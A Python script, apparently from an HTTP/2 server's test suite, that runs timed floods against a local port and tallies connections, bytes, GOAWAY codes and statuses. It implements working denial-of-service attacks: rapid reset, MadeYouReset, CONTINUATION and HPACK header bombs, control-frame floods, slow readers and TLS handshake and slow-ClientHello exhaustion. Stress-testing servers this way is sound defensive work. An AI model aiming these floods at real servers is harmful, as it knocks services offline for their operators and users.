"""Abuse of one kind for so many seconds, in a process of its own: python3 floodload.py KIND PORT SECONDS CONNECTIONS

Prints one JSON object at the end: connections made, bytes sent, why they ended (GOAWAY codes, resets), answers seen by
status.
Where the server ends a connection the next one is made at once. PORT is in clear (prior knowledge), for the two tls-
kinds over TLS.
"""

import collections
import json
import os
import pathlib
import socket
import ssl
import struct
import sys
import threading
import time

sys.path[:0] = [
    str(pathlib.Path(__file__).resolve().parent),
    str(pathlib.Path(__file__).resolve().parent.parent / "EndToEnd"),
]

import h2frames as h2  # noqa: E402
import tlsscenario  # noqa: E402

PATH = "/flood"


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.connections = self.octets = self.units = 0
        self.ends, self.answers = collections.Counter(), collections.Counter()

    def add(self, **more):
        with self.lock:
            for name, value in more.items():
                setattr(self, name, getattr(self, name) + value)

    def end(self, how):
        with self.lock:
            self.ends[str(how)] += 1

    def answer(self, status):
        with self.lock:
            self.answers[str(status)] += 1


# -- what is sent: each a function of the wire that gives (bytes, how many units of abuse) without end
# ----------------------
def rapid_reset(wire):
    """Requests reset by the client in the same bytes; waits for the PING at the end of each hundred, so that none is
    cut in two by a read."""
    stream, serial = 1, 0
    while True:
        out = []
        for _ in range(100):
            out.append(
                h2.request(stream, f"{PATH}/{stream}") + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))
            )
            stream += 2
        serial += 1
        yield b"".join(out) + h2.frame(h2.PING, 0, 0, struct.pack(">Q", serial)), 100
        wait_for_ping(wire, serial)


def rapid_reset_at_once(wire):
    """The same without waiting."""
    stream = 1
    while True:
        out = []
        for _ in range(500):
            out.append(
                h2.request(stream, f"{PATH}/{stream}") + h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8))
            )
            stream += 2
        yield b"".join(out), 500


def made_you_reset(wire):
    """Requests that the client makes the server reset: a WINDOW_UPDATE of nothing, one too large, DATA after the
    end."""
    stream, serial = 1, 0
    tricks = [
        lambda s: h2.frame(h2.WINDOW_UPDATE, 0, s, struct.pack(">I", 0)),
        lambda s: h2.frame(h2.WINDOW_UPDATE, 0, s, struct.pack(">I", 0x7FFFFFFF)),
        lambda s: h2.frame(h2.DATA, h2.END_STREAM, s, b"x"),
    ]
    trick = tricks[int(time.monotonic() * 1000) % 3]
    while True:
        out = []
        for _ in range(50):
            out.append(h2.request(stream, f"{PATH}/{stream}") + trick(stream))
            stream += 2
        serial += 1
        yield b"".join(out) + h2.frame(h2.PING, 0, 0, struct.pack(">Q", serial)), 50
        wait_for_ping(wire, serial)


def continuation(wire):
    yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(path=PATH)), 1
    piece = h2.frame(h2.CONTINUATION, 0, 1, b"".join(h2.literal(f"x-{n}", "y" * 80) for n in range(150)))
    while True:
        yield piece * 8, 8


def continuation_empty(wire):
    yield h2.frame(h2.HEADERS, h2.END_STREAM, 1, h2.block(path=PATH)), 1
    while True:
        yield h2.frame(h2.CONTINUATION, 0, 1) * 2000, 2000


def settings_flood(wire):
    piece = h2.settings((h2.INITIAL_WINDOW, 65_535)) + h2.settings()
    while True:
        yield piece * 500, 1000


def ping(wire):
    piece = h2.frame(h2.PING, 0, 0, b"12345678")
    while True:
        yield piece * 1000, 1000


def empty_data(wire):
    yield h2.request(1, PATH + "/post", "POST", end=False), 1
    while True:
        yield h2.frame(h2.DATA, 0, 1) * 2000, 2000


def empty_headers(wire):
    """Requests without a single field, and trailers of nothing."""
    stream = 1
    while True:
        out = []
        for _ in range(500):
            out.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream))
            stream += 2
        yield b"".join(out), 500


def header_bomb(wire):
    """A field of 4,000 bytes put into the table once, then named 16,000 times in one block: 64 MB from 16 KB."""
    yield (
        h2.frame(
            h2.HEADERS,
            h2.END_HEADERS | h2.END_STREAM,
            1,
            h2.block(path=PATH) + h2.literal("x-bomb", "b" * 4000, indexed=True),
        ),
        1,
    )
    stream = 3
    while True:
        yield h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(path=PATH) + b"\xbe" * 16_000), 1
        stream += 2
        read_some(wire, 0.0)


def cookie_crumbs(wire):
    """Blocks of thousands of tiny cookie fields."""
    crumb = b"\x60\x01a" + b"\xbe" * 15_000
    stream = 1
    while True:
        yield h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(path=PATH) + crumb), 1
        stream += 2
        read_some(wire, 0.0)


def window_update(wire):
    yield h2.request(1, "/kept"), 1
    piece = h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + h2.frame(
        h2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)
    )
    while True:
        yield piece * 500, 1000
        read_some(wire, 0.0)


def priority_update(wire):
    stream = 1
    while True:
        out = []
        for _ in range(500):
            out.append(h2.frame(h2.PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream) + b"u=1"))
            stream += 2
        yield b"".join(out), 500


def priority(wire):
    while True:
        yield h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 1000, 1000


def slow_readers(wire):
    """A hundred streams of a large stored object with every window open, and nothing is ever read."""
    yield h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65_535)), 0
    yield b"".join(h2.request(1 + 2 * n, "/large") for n in range(100)), 100
    hold(wire)


def slow_windows(wire):
    """A hundred streams of a large stored object, whose windows open by one byte at a time."""
    yield b"".join(h2.request(1 + 2 * n, "/large") for n in range(100)), 100
    while True:
        read_some(wire, 0.2)
        yield b"".join(h2.frame(h2.WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 1)) for n in range(0, 100, 10)), 10


def wait_for_ping(wire, serial):
    end = time.monotonic() + 5
    while time.monotonic() < end:
        for kind, flags, _, payload in read_some(wire, 0.5):
            if kind == h2.PING and flags & h2.ACK and payload == struct.pack(">Q", serial):
                return
    raise h2.Ended("no answer to PING within 5 s")


def read_some(wire, wait):
    got = wire.frames(wait)
    for kind, _, _, payload in got:
        if kind == h2.HEADERS:
            wire.tally.answer(h2.status(payload))
    return got


def hold(wire):
    while time.monotonic() < wire.deadline:
        time.sleep(0.2)
        if b"" == peek(wire.socket):
            raise h2.Ended("end")


def peek(sock):
    try:
        return sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return None
    except OSError:
        return b""


KINDS = {
    "rapid-reset": rapid_reset,
    "rapid-reset-at-once": rapid_reset_at_once,
    "made-you-reset": made_you_reset,
    "continuation": continuation,
    "continuation-empty": continuation_empty,
    "settings": settings_flood,
    "ping": ping,
    "empty-data": empty_data,
    "empty-headers": empty_headers,
    "header-bomb": header_bomb,
    "cookie-crumbs": cookie_crumbs,
    "window-update": window_update,
    "priority-update": priority_update,
    "priority": priority,
    "slow-readers": slow_readers,
    "slow-windows": slow_windows,
}
WINDOWS = {"slow-readers": ((h2.INITIAL_WINDOW, 0x7FFFFFFF),), "slow-windows": ((h2.INITIAL_WINDOW, 0),)}
UNREAD = {"slow-readers"}


def abuse(kind, port, deadline, tally, number=0):
    """Every second thread reads what comes before it sends more, the others do not look at it until they are ended."""
    reads = number % 2 == 0 and kind not in UNREAD
    while time.monotonic() < deadline:
        try:
            wire = h2.Wire(
                port, pairs=WINDOWS.get(kind, ()), receive_buffer=4096 if kind in UNREAD else None, timeout=2
            )
        except OSError as error:
            tally.end(f"not connected: {type(error).__name__}")
            time.sleep(0.05)
            continue
        wire.tally, wire.deadline = tally, deadline
        tally.add(connections=1)
        try:
            for octets, units in KINDS[kind](wire):
                if reads:
                    read_some(wire, 0.0)
                wire.send(octets)
                tally.add(octets=len(octets), units=units)
                if time.monotonic() > deadline:
                    break
        except TimeoutError:
            tally.end("it stopped reading")
        except (h2.Ended, OSError) as error:
            if wire.gone is None and kind not in UNREAD:
                last_words(wire, tally)
            tally.end(f"GOAWAY {wire.gone}" if wire.gone is not None else f"{type(error).__name__} {error}")
        else:
            if wire.gone is None and kind not in UNREAD:
                last_words(wire, tally)
            if wire.gone is not None:
                tally.end(f"GOAWAY {wire.gone}")
        wire.close()


def last_words(wire, tally):
    end = time.monotonic() + 0.3
    try:
        while time.monotonic() < end and wire.gone is None:
            read_some(wire, 0.1)
    except (h2.Ended, OSError):
        pass


# -- TLS -------------------------------------------------------------------------------------------------------------
def tls_handshakes(port, deadline, tally):
    """Whole handshakes without a ticket, one after the other, and away."""
    context = tlsscenario.context(("h2", "http/1.1"))
    while time.monotonic() < deadline:
        try:
            with (
                socket.create_connection(("127.0.0.1", port), 5) as sock,
                context.wrap_socket(sock, server_hostname="pawl.test"),
            ):
                tally.add(connections=1, units=1)
        except OSError as error:
            tally.end(type(error).__name__)


def tls_slow(port, deadline, tally):
    """A hundred connections each that send a ClientHello byte by byte, and begin again when they are cut."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = tlsscenario.context().wrap_bio(incoming, outgoing, server_hostname="pawl.test")
    try:
        hello.do_handshake()
    except ssl.SSLWantReadError:
        pass
    octets, held = outgoing.read(), []
    while time.monotonic() < deadline:
        while len(held) < 100:
            try:
                held.append([socket.create_connection(("127.0.0.1", port), 2), 0])
                tally.add(connections=1)
            except OSError as error:
                tally.end(f"not connected: {type(error).__name__}")
                break
        for each in list(held):
            try:
                each[0].send(octets[each[1] : each[1] + 1])
                each[1] = min(each[1] + 1, len(octets) - 2)
                tally.add(octets=1, units=1)
            except OSError as error:
                tally.end(type(error).__name__)
                held.remove(each)
                each[0].close()
        time.sleep(0.05)


def main(kind, port, seconds, connections):
    tally, deadline = Tally(), time.monotonic() + seconds

    def work(number):
        other = {"tls-handshakes": tls_handshakes, "tls-slow": tls_slow}.get(kind)
        other(port, deadline, tally) if other else abuse(kind, port, deadline, tally, number)

    threads = [threading.Thread(target=work, args=(number,), daemon=True) for number in range(connections)]
    for each in threads:
        each.start()
    while any(each.is_alive() for each in threads) and time.monotonic() < deadline + 8 and os.getppid() != 1:
        time.sleep(0.1)
    print(
        json.dumps(
            {
                "connections": tally.connections,
                "bytes": tally.octets,
                "units": tally.units,
                "ends": dict(tally.ends.most_common(8)),
                "answers": dict(tally.answers),
            }
        ),
        flush=True,
    )
    os._exit(0)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]))
